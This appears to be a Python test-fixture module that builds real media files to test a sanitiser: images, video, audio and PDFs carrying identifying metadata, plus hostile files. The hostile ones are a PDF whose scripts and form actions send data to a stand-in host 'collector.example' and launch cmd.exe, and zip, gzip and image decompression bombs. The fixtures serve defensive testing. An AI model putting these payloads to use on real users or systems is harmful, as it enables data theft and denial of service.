"""Small real files for tests: each is what its type says, built byte by byte."""

import io
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from commonground.demo.media import mp4 as synthetic_mp4


def mp4(seconds: float = 93.5, *, timescale: int = 1000, payload: bytes = b"\x00" * 256) -> bytes:
    """An MP4 container with a movie header that says how long it plays."""
    return synthetic_mp4(seconds, payload, timescale=timescale)


def png(size=(40, 30), colour="navy") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="PNG")
    return out.getvalue()


def jpeg(size=(40, 30), colour="green") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="JPEG", quality=95)
    return out.getvalue()


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def uploaded(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- Files that carry what identifies a person or a device ---------------------------------------

PERSON = "Jane Q. Resident"
SERIAL = "SN-4417-XKCD"
# Bytes none of which may be left in a copy given out.
IDENTIFYING = (
    PERSON.encode(),
    SERIAL.encode(),
    b"ns.adobe.com/xap",
    b"Photoshop 3.0",
    b"x:xmpmeta",
    b"40.7128",
)
XMP = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
    'syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://'
    f'ns.adobe.com/xap/1.0/"><dc:creator>{PERSON}</dc:creator><xmp:CreatorTool>{SERIAL}'
    '</xmp:CreatorTool></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
).encode()


def identifying_exif() -> Image.Exif:
    """EXIF as a phone or body-worn camera writes it: who, which device, where."""
    exif = Image.Exif()
    exif[0x010F] = "Axon"  # Make
    exif[0x0110] = "Body 4"  # Model
    exif[0x013B] = PERSON  # Artist
    exif[0x8298] = f"(c) {PERSON}"  # Copyright
    exif.get_ifd(0x8769)[0xA431] = SERIAL  # BodySerialNumber
    exif.get_ifd(0x8769)[0xA430] = PERSON  # CameraOwnerName
    exif[0x8825] = {1: "N", 2: (40.0, 42.0, 46.08), 3: "W", 4: (74.0, 0.0, 21.6)}  # GPSInfo
    return exif


def iptc_segment() -> bytes:
    """A JPEG APP13 segment with an IPTC by-line (the photographer's name)."""
    byline = PERSON.encode()
    iptc = b"\x1c\x02\x50" + len(byline).to_bytes(2, "big") + byline
    resource = b"8BIM\x04\x04\x00\x00" + len(iptc).to_bytes(4, "big") + iptc
    payload = b"Photoshop 3.0\x00" + resource
    return b"\xff\xed" + (len(payload) + 2).to_bytes(2, "big") + payload


def jpeg_with_metadata(size=(48, 32)) -> bytes:
    image = Image.new("RGB", size, "white")
    image.paste((200, 30, 30), (8, 8, 24, 20))
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=90, exif=identifying_exif(), xmp=XMP, comment=PERSON)
    data = out.getvalue()
    return data[:2] + iptc_segment() + data[2:] + b"trailing " + SERIAL.encode()


def png_with_metadata(size=(48, 32)) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", PERSON)
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    info.add_text("Comment", SERIAL, zip=True)
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, format="PNG", pnginfo=info, exif=identifying_exif())
    return out.getvalue()


def webp_with_metadata(size=(48, 32)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(
        out, format="WEBP", exif=identifying_exif(), xmp=XMP, lossless=True
    )
    return out.getvalue()


def _box(kind: bytes, payload: bytes) -> bytes:
    return (8 + len(payload)).to_bytes(4, "big") + kind + payload


def _full_box(kind: bytes, payload: bytes, version: int = 0) -> bytes:
    return _box(kind, bytes([version, 0, 0, 0]) + payload)


def heic_with_metadata(width: int = 4032, height: int = 3024) -> bytes:
    """A HEIF container as phones write it: a coded image item, an EXIF item and an XMP item,
    with the size of the image in its properties. The coded image is not a real one: HEIC is
    never decoded here."""
    exif = io.BytesIO()
    exif.write(b"\x00\x00\x00\x06Exif\x00\x00")
    exif.write(identifying_exif().tobytes())
    exif = exif.getvalue()
    coded = b"\x00\x00\x00\x10hevc-not-decoded"
    items = [(1, b"hvc1", b"", coded), (2, b"Exif", b"", exif), (3, b"mime", XMP, XMP)]

    def infe(item, kind, content_type):
        name = b"\x00"
        extra = b"application/rdf+xml\x00" if kind == b"mime" else b""
        return _full_box(b"infe", item.to_bytes(2, "big") + b"\x00\x00" + kind + name + extra, 2)

    def build(mdat_start):
        iinf = _full_box(
            b"iinf", len(items).to_bytes(2, "big") + b"".join(infe(i, k, c) for i, k, c, _ in items)
        )
        entries, offset = b"", mdat_start + 8
        for item, _kind, _ct, data in items:
            entries += item.to_bytes(2, "big") + b"\x00\x00" + b"\x00\x01"
            entries += offset.to_bytes(4, "big") + len(data).to_bytes(4, "big")
            offset += len(data)
        iloc = _full_box(b"iloc", b"\x44\x00" + len(items).to_bytes(2, "big") + entries)
        ispe = _full_box(b"ispe", width.to_bytes(4, "big") + height.to_bytes(4, "big"))
        ipma = _full_box(b"ipma", b"\x00\x00\x00\x01" + b"\x00\x01\x01\x81")
        iprp = _box(b"iprp", _box(b"ipco", ispe) + ipma)
        hdlr = _full_box(b"hdlr", b"\x00" * 4 + b"pict" + b"\x00" * 12 + b"\x00")
        pitm = _full_box(b"pitm", b"\x00\x01")
        return _full_box(b"meta", hdlr + pitm + iloc + iinf + iprp)

    ftyp = _box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic")
    meta = build(0)
    meta = build(len(ftyp) + len(meta))
    mdat = _box(b"mdat", b"".join(data for *_, data in items))
    return ftyp + meta + mdat


def mp4_with_metadata(seconds: float = 30) -> bytes:
    """An MP4 as a phone writes it: QuickTime user data with the place it was filmed and the
    phone, Apple's metadata keys, and an XMP box."""
    head, tail = synthetic_mp4(seconds, b"\x00" * 512), b""
    moov_at = head.rindex(b"moov") - 4
    moov, rest = head[moov_at:], head[:moov_at]
    location = b"+40.7128-074.0060/"
    udta = _box(
        b"udta",
        _box(b"\xa9xyz", len(location).to_bytes(2, "big") + b"\x15\xc7" + location)
        + _box(b"\xa9mak", b"\x00\x05\x15\xc7Apple")
        + _box(b"\xa9aut", len(PERSON).to_bytes(2, "big") + b"\x15\xc7" + PERSON.encode()),
    )
    keys = _full_box(b"keys", b"\x00\x00\x00\x01" + _box(b"mdta", b"com.apple.quicktime.serial"))
    ilst = _box(b"ilst", _box(b"\x00\x00\x00\x01", _box(b"data", b"\x00" * 8 + SERIAL.encode())))
    meta = _full_box(
        b"meta", _full_box(b"hdlr", b"\x00" * 4 + b"mdta" + b"\x00" * 13) + keys + ilst
    )
    body = moov[8:] + udta + meta
    xmp = _box(b"uuid", bytes.fromhex("be7acfcb97a942e89c71999491e3afac") + XMP)
    return rest + _box(b"moov", body) + xmp + tail


def pdf_with_metadata() -> bytes:
    """A PDF with its author in the document information and an XMP stream, written object by
    object so that the cross-reference table points at the right bytes."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n" % len(XMP)
        + XMP
        + b"\nendstream",
        b"<< /Author (" + PERSON.encode() + b") /Creator (Scanner " + SERIAL.encode() + b") "
        b"/Producer (Office) /Title (Statement) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R /Info 5 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, xref)
    )
    return out.getvalue()


COLLECTOR = b"collector.example"  # where the hostile PDF's scripts would send what they read
# Left in no copy of pdf_with_active_content (searched with every stream decompressed).
ACTIVE_PDF_MARKERS = (
    b"/JavaScript",
    b"JavaScript:",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/SubmitForm",
    b"/EmbeddedFile",
    b"/XFA",
    b"/Author",
    COLLECTOR,
    b"x:xmpmeta",
    PERSON.encode(),
    SERIAL.encode(),
)


def _stream(data: bytes, extra: bytes = b"", *, deflate: bool = False) -> bytes:
    if deflate:  # as real documents (and hostile ones) keep their scripts: out of plain sight
        data, extra = zlib.compress(data), extra + b"/Filter /FlateDecode "
    return b"<< %s/Length %d >>\nstream\n" % (extra, len(data)) + data + b"\nendstream"


def _pdf_file(objects: list[bytes], trailer: bytes) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    )
    return out.getvalue()


def pdf_with_active_content() -> bytes:
    """A resident's "statement" as a hostile sender would make it: scripts run on opening, on
    closing and on showing the page (sending what they can read to COLLECTOR), a link that
    launches a program, an embedded file, an XFA form, the author in the document information
    and in XMP. One harmless web link and the page's own drawing must survive cleaning."""
    script = b"app.launchURL('https://" + COLLECTOR + b"/?' + this.info.Author)"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R /OpenAction 6 0 R"
        b" /AA << /WC << /S /JavaScript /JS (app.alert\\('bye'\\)) >> >>"
        b" /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >>"
        b" /AcroForm << /Fields [] /XFA 12 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> /Contents 13 0 R"
        b" /Annots [10 0 R 11 0 R 17 0 R]"
        b" /AA << /O << /S /SubmitForm /F << /FS /URL /F (https://"
        + COLLECTOR
        + b"/form) >> >> >> >>",
        _stream(XMP, b"/Type /Metadata /Subtype /XML "),
        b"<< /Author (" + PERSON.encode() + b") /Creator (Scanner " + SERIAL.encode() + b") >>",
        b"<< /S /JavaScript /JS 14 0 R >>",
        b"<< /Names [(init) 8 0 R] >>",
        b"<< /S /JavaScript /JS 14 0 R >>",
        b"<< /Names [(notes.txt) 15 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 20]"
        b" /A << /S /URI /URI (https://agency.example/policy) >> >>",
        _stream(b"<xdp:xdp><script>" + script + b"</script></xdp:xdp>", deflate=True),
        _stream(b"0 0 m 100 100 l S"),
        _stream(script, deflate=True),
        b"<< /Type /Filespec /F (notes.txt) /EF << /F 16 0 R >> >>",
        _stream(b"Notes by " + PERSON.encode(), b"/Type /EmbeddedFile "),
        b"<< /Type /Annot /Subtype /Link /Rect [10 30 90 40]"
        b" /A << /S /URI /URI (JavaScript:app.launchURL\\('https://" + COLLECTOR + b"'\\)) >> >>",
    ]
    return _pdf_file(objects, b"/Root 1 0 R /Info 5 0 R")


def mp3_with_metadata() -> bytes:
    """MPEG audio frames between an ID3v2 tag (artist) and an ID3v1 tag."""
    artist = b"\x03" + PERSON.encode()
    frame = b"TPE1" + len(artist).to_bytes(4, "big") + b"\x00\x00" + artist
    id3 = b"ID3\x03\x00\x00" + bytes(
        [
            (len(frame) >> 21) & 0x7F,
            (len(frame) >> 14) & 0x7F,
            (len(frame) >> 7) & 0x7F,
            len(frame) & 0x7F,
        ]
    )
    audio = (b"\xff\xfb\x90\x64" + b"\x00" * 413) * 6
    v1 = b"TAG" + b"Title".ljust(30, b"\x00") + PERSON.encode().ljust(30, b"\x00") + b"\x00" * 65
    return id3 + frame + audio + v1


def _ebml(ident: int, payload: bytes) -> bytes:
    width = (ident.bit_length() + 7) // 8
    return ident.to_bytes(width, "big") + b"\x01" + len(payload).to_bytes(7, "big") + payload


def webm_with_metadata() -> bytes:
    """A WebM file with a title and tags naming the person who recorded it."""
    header = _ebml(0x1A45DFA3, _ebml(0x4282, b"webm") + _ebml(0x4287, b"\x04"))
    info = _ebml(0x1549A966, _ebml(0x2AD7B1, b"\x0f\x42\x40") + _ebml(0x7BA9, PERSON.encode()))
    tracks = _ebml(0x1654AE6B, _ebml(0xAE, _ebml(0xD7, b"\x01") + _ebml(0x86, b"V_VP8")))
    tag = _ebml(0x7373, _ebml(0x67C8, _ebml(0x45A3, b"ARTIST") + _ebml(0x4487, PERSON.encode())))
    tags = _ebml(0x1254C367, tag + _ebml(0x7373, _ebml(0x67C8, _ebml(0x4487, SERIAL.encode()))))
    cluster = _ebml(
        0x1F43B675, _ebml(0xE7, b"\x00") + _ebml(0xA3, b"\x81\x00\x00\x80" + b"\x00" * 64)
    )
    return header + _ebml(0x18538067, info + tracks + cluster + tags)


# --- Files built to hurt -------------------------------------------------------------------------


def png_declaring(width: int, height: int) -> bytes:
    """A PNG of a few dozen bytes whose header declares width by height pixels (one bit each):
    opening it whole would take gigabytes."""
    import struct
    import zlib

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header is changed to declare width by height pixels."""
    data = bytearray(jpeg((16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def zip_bomb(expanded: int = 200 * 1024 * 1024) -> bytes:
    """A ZIP of a few hundred kilobytes that unpacks to `expanded` bytes of zeros."""
    import zipfile

    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as bundle,
        bundle.open("photo.jpg", "w", force_zip64=True) as inner,
    ):
        block = b"\x00" * (1024 * 1024)
        for _ in range(expanded // len(block)):
            inner.write(block)
    return out.getvalue()


def gzip_bomb(expanded: int = 100 * 1024 * 1024) -> bytes:
    import gzip

    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as packed:
        block = b"\x00" * (1024 * 1024)
        for _ in range(expanded // len(block)):
            packed.write(block)
    return out.getvalue()
